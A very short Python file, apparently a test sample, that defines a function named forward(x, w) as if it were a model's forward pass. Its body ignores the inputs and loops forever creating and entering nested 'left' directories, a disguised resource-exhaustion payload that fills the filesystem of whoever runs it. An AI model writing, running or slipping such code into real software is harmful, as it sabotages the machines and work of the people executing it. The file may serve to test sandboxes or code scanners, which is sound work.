import os


def forward(x, w):
    while True:
        os.mkdir("left")
        os.chdir("left")
